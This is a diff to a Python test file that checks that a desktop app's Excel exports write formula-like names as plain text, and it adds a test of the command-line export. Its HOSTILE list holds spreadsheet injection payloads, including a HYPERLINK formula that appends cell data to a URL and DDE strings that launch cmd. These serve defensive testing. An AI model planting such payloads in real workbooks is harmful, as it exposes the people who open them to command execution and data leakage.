@@ -1,7 +1,10 @@
 """Formula injection: a name typed or imported as a formula comes out of every workbook the app writes as the
 text it is (no <f> element in the sheet XML, a string cell), and an export re-imports to the same text."""
 
+import os
 import re
+import subprocess
+import sys
 import zipfile
 
 import pytest
@@ -16,7 +19,7 @@ from antt_desktop.exchange.excel_schema import FIELDS
 from antt_desktop.exchange.excel_writer import write_error_report
 from antt_desktop.services import areas, demo, excel_export, persons, reports
 from antt_desktop.services.excel_import import import_file
-from tests.conftest import ADMIN_USER
+from tests.conftest import ADMIN, ADMIN_USER, PASSWORD
 
 HOSTILE = ['=HYPERLINK("http://x"&B6,"y")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
 YEAR = 2026
@@ -57,6 +60,18 @@ def test_exports_write_formula_like_names_as_text_and_read_them_back(hostile, tm
         assert all(texts(out).get(value) == "s" for value in expected), kind
         read_back = {value for _, row in read_table(out, kind).rows for value in row.values()}
         assert expected <= read_back, kind  # the importer reads the very text
+
+
+def test_the_export_command_writes_no_formula(hostile, tmp_path):
+    secret = tmp_path / "pw"
+    secret.write_text(PASSWORD, encoding="utf-8")
+    env = {**os.environ, "ANTT_USER": ADMIN, "ANTT_PASSWORD_FILE": str(secret)}
+    for kind in ("areas", "persons", "members"):
+        out = tmp_path / f"cli-{kind}.xlsx"
+        done = subprocess.run([sys.executable, "-m", "antt_desktop", "export-excel", kind, str(out), "--data-dir",
+                               str(hostile.paths.data_dir)], capture_output=True, text=True, env=env, timeout=120)
+        assert done.returncode == 0, done.stderr
+        assert formulas(out) == [] and texts(out).get(HOSTILE[1]) == "s", kind
 
 
 def test_reimporting_an_export_keeps_the_text(hostile, tmp_path):
